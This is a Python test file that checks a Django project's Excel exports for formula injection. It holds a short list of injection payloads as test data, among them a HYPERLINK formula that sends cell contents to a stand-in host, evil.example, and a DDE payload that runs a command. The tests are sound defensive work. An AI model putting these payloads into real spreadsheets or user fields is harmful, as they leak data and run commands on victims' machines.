"""Formula injection (issue 18, finding 3): text from users never becomes a live formula.

openpyxl types a string that starts with "=" as a formula, and Excel turns text starting with
+, -, @, a tab or a carriage return into one when the cell is edited. Every export writes its
rows through core.reports.xlsx.write_xlsx, which makes such text an explicit text cell; the
tests read the files back and look at each cell's type.
"""

import io

import openpyxl
import pytest

from core.reports import Column, TableReport
from core.reports.xlsx import as_text_cells, write_xlsx
from feedback.importing import error_workbook
from rectification.exports import LedgerReport
from tests.factories import ProblemFactory, RectificationItemFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cells_of(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for row in wb.active.iter_rows() for cell in row if cell.value is not None]


class AttackReport(TableReport):
    title = "测试"
    columns = [Column("文本", 40), Column("数字", 10)]

    def __init__(self):
        pass

    def rows(self):
        for text in ATTACKS:
            yield [text, 7]


@pytest.mark.django_db  # on PostgreSQL the writer sets the cursor plan for the export
def test_every_formula_like_text_is_written_as_a_text_cell():
    out = io.BytesIO()
    write_xlsx(AttackReport(), out)
    cells = {c.value: c for c in cells_of(out.getvalue())}
    for text in ATTACKS:
        assert cells[text].data_type == "s", text
    assert cells[7].data_type == "n"  # numbers stay numbers
    assert not any(c.data_type == "f" for c in cells.values())


@pytest.mark.django_db
def test_a_ledger_title_written_by_staff_exports_as_text(world):
    for text in ATTACKS[:3]:
        RectificationItemFactory(problem=ProblemFactory(unit=world.unit_a, title=text))
    out = io.BytesIO()
    write_xlsx(LedgerReport(user=world.alice, unit=world.unit_a.pk), out)
    cells = cells_of(out.getvalue())
    assert not [c.value for c in cells if c.data_type == "f"]
    written = [c for c in cells if str(c.value).startswith(("=", "+"))]
    assert len(written) >= 3 and all(c.data_type == "s" for c in written)


@pytest.mark.django_db
def test_a_public_box_opinion_exports_as_text_in_the_opinion_summary(world, client):
    from feedback.exports.opinions import summary_xlsx
    from feedback.models import Opinion

    client.post(f"/public/units/{world.unit_a.code}/opinions/", {"text": ATTACKS[0]})
    assert Opinion.objects.filter(text=ATTACKS[0]).exists()
    data = summary_xlsx(user=world.alice, unit=world.unit_a)
    cells = cells_of(data)
    assert any(c.value == ATTACKS[0] and c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for c in cells)


def test_the_import_error_report_writes_user_text_as_text():
    cells = cells_of(error_workbook([(2, "意见内容", ATTACKS[1])]))
    assert not any(c.data_type == "f" for c in cells)


def test_rows_without_formula_like_text_are_passed_through_untouched():
    row = ["会议太多", 3, None]
    assert as_text_cells(None, row) is row
